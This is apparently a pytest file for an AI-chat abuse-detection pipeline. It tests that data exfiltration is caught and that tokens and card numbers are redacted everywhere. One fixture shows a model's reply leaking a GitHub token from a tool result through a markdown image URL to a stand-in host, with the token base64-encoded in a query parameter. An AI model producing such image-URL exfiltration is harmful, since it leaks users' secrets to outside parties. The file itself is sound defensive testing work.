"""Redaction proofs: no raw secret or PII value leaves the pipeline, in any form, in documents or logs."""

import base64
import binascii
import contextlib
import json
import logging
import re
import urllib.parse
from pathlib import Path

import msgspec
import pytest

from detectors.event import Event
from detectors.exfil import ExfilConfig, build_exfil_detectors
from detectors.pipeline import Pipeline
from detectors.redact import Redactor
from tests.fixtures.exfil.builders import chat, github_token

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "exfil"
CASES = json.loads((FIXTURES / "cases.json").read_text(encoding="utf-8"))
B64_TOKEN = re.compile(r"[A-Za-z0-9+/_\-]{12,}={0,2}")


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    detectors = build_exfil_detectors(ExfilConfig(registry_path=FIXTURES / "registry.yaml"))
    return Pipeline(detectors, Redactor(b"test-redaction-key"))


def forms(value: str) -> set[str]:
    raw = value.encode()
    return {
        value,
        base64.b64encode(raw).decode().rstrip("="),
        base64.urlsafe_b64encode(raw).decode().rstrip("="),
        urllib.parse.quote(value, safe=""),
        urllib.parse.quote_plus(value),
    }


def decoded_tokens(text: str) -> list[str]:
    """Every base64 / base64url token in ``text`` decoded, so values hidden at any alignment show up."""
    decoded = []
    for token in B64_TOKEN.findall(text):
        for altchars in (None, b"-_"):
            with contextlib.suppress(binascii.Error, ValueError):
                decoded.append(base64.b64decode(token + "=" * (-len(token) % 4), altchars=altchars).decode("latin-1"))
    return decoded


def leaks(serialised: str, values: list[str]) -> list[str]:
    hidden = decoded_tokens(serialised)
    unquoted = urllib.parse.unquote_plus(serialised)
    return [
        value
        for value in values
        if any(form in serialised for form in forms(value)) or value in unquoted or any(value in h for h in hidden)
    ]


def test_secret_from_tool_result_leaked_in_image_url(pipeline):
    token = github_token(41)
    hidden = base64.urlsafe_b64encode(f"repo=acme&t={token}".encode()).decode()
    event = chat(
        prompt="Summarise the repository settings.",
        tool_results=[f"GITHUB_TOKEN={token}\nDEFAULT_BRANCH=main"],
        completion=f"The default branch is main.\n\n![build](https://stats.evil.test/b.png?d={hidden})",
    )
    result = pipeline.process([event])
    exfil = [a for a in result.alerts if a["rule"]["category"] == "data_exfiltration"]
    assert len(exfil) == 1
    alert = exfil[0]
    assert alert["rule"]["id"] == "abw-exfil-url-image"
    assert alert["abusewatch"]["level"] == "critical"
    assert alert["threat"]["technique"]["id"] == ["AML.T0077", "AML.T0057"]
    evidence = alert["abusewatch"]["evidence"]
    assert {e["field"] for e in evidence} == {"gen_ai.completion", "gen_ai.tool.call.result"}
    detail = evidence[0]["detail"]
    assert "first seen in gen_ai.tool.call.result" in detail
    assert "leaked in image URL query parameter d (base64)" in detail
    assert evidence[0]["transforms"] == ["base64"]
    serialised = json.dumps({"events": result.events, "alerts": result.alerts})
    assert leaks(serialised, [token]) == []
    assert hidden not in serialised  # the whole carrier is masked: decoding it would reveal the token
    assert "[REDACTED:github_token:" in serialised


def test_no_fixture_value_survives_the_pipeline(pipeline, caplog):
    caplog.set_level(logging.DEBUG)
    failures = {}
    for case in CASES:
        event = msgspec.convert(case["event"], Event)
        result = pipeline.process([event])
        serialised = json.dumps(
            {"events": result.events, "alerts": result.alerts, "shadow": result.shadow_alerts}, default=str
        )
        leaked = leaks(serialised, case["sensitive"])
        if leaked:
            failures[case["id"]] = len(leaked)
    assert failures == {}
    everything = [value for case in CASES for value in case["sensitive"]]
    assert leaks(caplog.text, everything) == []


def test_fixture_sensitive_values_are_not_trivially_empty():
    values = [value for case in CASES for value in case["sensitive"]]
    assert len(values) > 150
    assert all(len(value) >= 4 for value in values)


def test_detector_failure_is_logged_without_values(pipeline, caplog, monkeypatch):
    token = github_token(42)
    detector = pipeline.detectors[0]

    def explode(context, findings, masker, index):
        raise RuntimeError("url check failed")

    monkeypatch.setattr(detector.urls, "run", explode)
    result = pipeline.process([chat(prompt=f"key {token}", completion="ok")])
    assert "exfil: RuntimeError: url check failed" in result.events[0]["abusewatch"]["errors"][0]
    assert token not in caplog.text


def test_the_leak_check_sees_values_when_nothing_redacts():
    bare = Pipeline([], Redactor(b"test-redaction-key"))
    found = 0
    for case in CASES[:200]:
        result = bare.process([msgspec.convert(case["event"], Event)])
        found += len(leaks(json.dumps(result.events), case["sensitive"]))
    assert found >= sum(len(case["sensitive"]) for case in CASES[:200]) * 0.9


def test_one_card_written_two_ways_gets_one_mask(pipeline):
    """The mask is derived from the value's normalised form, so an analyst sees one card, not two."""
    spaced, dashed = "4111 1111 1111 1111", "4111-1111-1111-1111"
    event = chat(prompt=f"My card is {spaced}.", completion=f"Noted: {dashed}.")
    document = json.dumps(pipeline.fresh().process([event]).events[0])
    masks = set(re.findall(r"\[REDACTED:payment_card:[^\]]+\]", document))
    assert spaced not in document and dashed not in document
    assert len(masks) == 1, masks
